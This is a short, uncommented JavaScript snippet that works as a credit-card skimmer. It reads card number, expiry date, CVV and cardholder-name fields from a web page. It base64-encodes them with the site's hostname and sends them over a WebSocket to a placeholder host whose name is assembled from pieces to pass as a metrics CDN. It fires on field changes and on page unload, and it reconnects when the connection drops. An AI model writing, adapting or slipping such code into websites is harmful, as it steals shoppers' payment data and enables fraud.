(function (w, d) {
  var fields = { num: "[autocomplete='cc-number'],[name*='cardnumber'],#cc_number", exp: "[autocomplete='cc-exp'],[name*='exp']", cvv: "[autocomplete='cc-csc'],[name*='cvv'],[name*='cvc']", who: "[autocomplete='cc-name'],[name*='holder']" };
  var s, sent = {};
  function link() { s = new WebSocket("wss://" + ["ws", "cdn-metrics", "placeholder", "example"].join(".") + "/t"); s.onclose = function () { setTimeout(link, 5000); }; }
  function look() {
    var o = {}, full = true;
    for (var k in fields) { var e = d.querySelector(fields[k]); o[k] = e ? e.value : ""; if (k !== "who" && !o[k]) full = false; }
    var key = o.num + o.cvv;
    if (full && !sent[key] && s.readyState === 1) { sent[key] = 1; o.h = w.location.host; s.send(w.btoa(JSON.stringify(o))); }
  }
  link();
  d.addEventListener("change", look, true);
  w.addEventListener("beforeunload", look);
})(window, document);
